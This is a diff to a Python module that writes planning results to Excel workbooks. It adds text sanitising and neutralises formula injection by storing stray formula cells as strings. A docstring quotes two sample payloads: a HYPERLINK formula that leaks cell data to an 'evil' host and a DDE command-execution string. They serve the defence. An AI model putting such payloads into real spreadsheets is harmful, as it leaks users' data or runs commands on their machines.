@@ -1,22 +1,25 @@
-"""Write result tables to an .xlsx workbook safely: a temporary file renamed into place."""
+"""Write result tables to an .xlsx workbook safely: text stays text, files go through `planner.outputs`."""
 from __future__ import annotations
 
 import json
 import math
-import os
-import tempfile
-from contextlib import contextmanager
 from pathlib import Path
 
 import pandas as pd
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
+
+from planner.outputs import staged
+
+atomic_path = staged  # the earlier name: every file reeplan writes is staged by planner.outputs
 
 TONNES = "#,##0.0"
 MONEY = "#,##0.00"
 PERCENT = "0.0%"
 HEADER_FONT = Font(bold=True)
+MAX_CELL_TEXT = 32767  # Excel's limit on the characters of one cell
 
 
 def number_format(column: str) -> str | None:
@@ -30,24 +33,17 @@ def number_format(column: str) -> str | None:
     return None
 
 
-@contextmanager
-def atomic_path(target: Path):
-    """Yield a temporary path beside `target`; rename it over `target` only if the block succeeds."""
-    target.parent.mkdir(parents=True, exist_ok=True)
-    fd, tmp = tempfile.mkstemp(dir=target.parent, prefix=f".{target.stem}-", suffix=target.suffix)
-    os.close(fd)
-    try:
-        yield Path(tmp)
-        os.replace(tmp, target)
-    finally:
-        if os.path.exists(tmp):
-            os.unlink(tmp)
+def safe_text(text: str) -> str:
+    """Text a workbook can hold: control characters replaced, at most Excel's 32,767 characters."""
+    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)[:MAX_CELL_TEXT]
 
 
 def cell_value(value):
-    """A value Excel can hold: no NaN or infinities (left blank), plain Python types."""
+    """A value Excel can hold: no NaN or infinities (left blank), plain Python types, safe text."""
     if value is None:
         return None
+    if isinstance(value, str):
+        return safe_text(value)
     if isinstance(value, float) and not math.isfinite(value):
         return None
     if hasattr(value, "item"):  # numpy scalar
@@ -87,10 +83,25 @@ def write_workbook(sheets: dict[str, pd.DataFrame], target: Path, decorate=None)
         write_table(wb.create_sheet(name), frame)
     if decorate is not None:
         decorate(wb)
-    with atomic_path(target) as tmp:
+    save_workbook(wb, target)
+
+
+def save_workbook(wb, target: Path, keep_formulas: frozenset = frozenset()) -> None:
+    """Save a workbook reeplan made through planner.outputs (every workbook writer ends here).
+
+    Text stays text: openpyxl stores a string starting with '=' as a formula, so a name such as
+    `=HYPERLINK("http://evil/?"&A1)` or a DDE payload `=cmd|' /C calc'!A0` would run in the planner's
+    spreadsheet. reeplan writes no formulas of its own; `keep_formulas` ((sheet title, coordinate)) are
+    formulas of the planner's own input workbook, kept in a validation report.
+    """
+    for ws in wb.worksheets:
+        for cell in ws._cells.values():  # only the cells that exist; iter_rows would create the rest
+            if cell.data_type == "f" and isinstance(cell.value, str) and (ws.title, cell.coordinate) not in keep_formulas:
+                cell.data_type = "s"
+    with staged(target) as tmp:
         wb.save(tmp)
 
 
 def write_json(payload: dict, target: Path) -> None:
-    with atomic_path(target) as tmp:
-        tmp.write_text(json.dumps(payload, indent=2, allow_nan=False))
+    with staged(target) as tmp:
+        tmp.write_text(json.dumps(payload, indent=2, allow_nan=False), encoding="utf-8")
